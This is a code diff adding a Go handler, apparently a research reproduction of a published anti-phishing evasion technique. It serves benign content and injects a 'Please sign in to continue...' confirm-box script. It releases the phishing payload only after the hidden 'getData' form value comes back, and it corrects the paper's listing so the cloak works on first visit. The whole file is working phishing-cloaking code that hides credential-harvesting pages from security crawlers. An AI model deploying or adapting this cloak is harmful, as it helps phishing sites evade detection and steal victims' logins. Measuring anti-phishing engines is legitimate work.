@@ -1,0 +1,115 @@
+package evasion
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"net/http"
+	"strings"
+)
+
+// alertGateMarker is the hidden form value proving the visitor confirmed the
+// alert box, matching the 'getData' sentinel of Listing 2.
+const alertGateMarker = "getData"
+
+// alertScript is the Go port of Appendix C Listing 2: after the window
+// loads, wait two seconds, show a modal confirm, and on confirmation build a
+// hidden form carrying get_data=getData and submit it back to the same URL.
+// A dismissal submits an empty form, also as in the listing.
+//
+// One deliberate fix relative to the published listing: the listing's
+// `if (first_visit && already_served)` guard can never fire on a first GET
+// (already_served is only true once credentials were posted), which
+// contradicts the behaviour described in Section 2.2 and observed in the
+// wild. We gate on `first_visit && !already_served` so the box appears on
+// the first visit, which is what the paper's deployments measurably did
+// (GSB bots confirmed it and retrieved the payload).
+const alertScript = `
+<script>
+/* Creating JS check variables for the second page load */
+var first_visit = %s;
+var already_served = %s;
+window.onload = function() {
+  /* execute after the window is loaded completely */
+  if (first_visit && !already_served) {
+    setTimeout(get_real_data, 2000);
+  }
+};
+function get_real_data() {
+  var msg = 'Please sign in to continue...';
+  var result = confirm(msg);
+  var f = document.createElement('form');
+  f.setAttribute('method', 'post');
+  if (result) {
+    /* dynamically generate and submit a form with hidden value 'getData' */
+    var i = document.createElement('input');
+    i.setAttribute('type', 'hidden');
+    i.setAttribute('name', 'get_data');
+    i.setAttribute('value', 'getData');
+    f.appendChild(i);
+  }
+  document.body.appendChild(f);
+  f.submit();
+}
+</script>
+`
+
+type alertBox struct{ opts Options }
+
+func newAlertBox(opts Options) http.Handler { return &alertBox{opts: opts} }
+
+func (a *alertBox) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if r.Method == http.MethodPost {
+		if err := r.ParseForm(); err == nil && r.PostFormValue("get_data") == alertGateMarker {
+			// Anti-phishing engine or user managed to confirm the alert box.
+			a.opts.log(r, ServePayload)
+			a.opts.Payload.ServeHTTP(w, r)
+			return
+		}
+	}
+	a.opts.log(r, ServeBenign)
+	firstVisit := "true"
+	if r.Method == http.MethodPost {
+		firstVisit = "false"
+	}
+	alreadyServed := "false"
+	if r.PostFormValue("login_email") != "" && r.PostFormValue("login_pass") != "" {
+		alreadyServed = "true"
+	}
+	script := fmt.Sprintf(alertScript, firstVisit, alreadyServed)
+	html := captureHTML(a.opts.Benign, r)
+	w.Header().Set("Content-Type", "text/html; charset=utf-8")
+	io.WriteString(w, injectBeforeBodyEnd(html, script))
+}
+
+// captureHTML renders a handler's response body for the given request.
+func captureHTML(h http.Handler, r *http.Request) string {
+	rec := &captureWriter{header: make(http.Header)}
+	// Re-issue as GET so benign handlers render their normal page even when
+	// the outer request was a POST probing the gate.
+	req := r.Clone(r.Context())
+	req.Method = http.MethodGet
+	req.Body = http.NoBody
+	h.ServeHTTP(rec, req)
+	return rec.body.String()
+}
+
+type captureWriter struct {
+	header http.Header
+	body   bytes.Buffer
+	code   int
+}
+
+func (c *captureWriter) Header() http.Header         { return c.header }
+func (c *captureWriter) WriteHeader(code int)        { c.code = code }
+func (c *captureWriter) Write(p []byte) (int, error) { return c.body.Write(p) }
+
+// injectBeforeBodyEnd inserts fragment just before </body> (or appends when
+// the page has no closing body tag).
+func injectBeforeBodyEnd(html, fragment string) string {
+	lower := strings.ToLower(html)
+	if i := strings.LastIndex(lower, "</body>"); i >= 0 {
+		return html[:i] + fragment + html[i:]
+	}
+	return html + fragment
+}
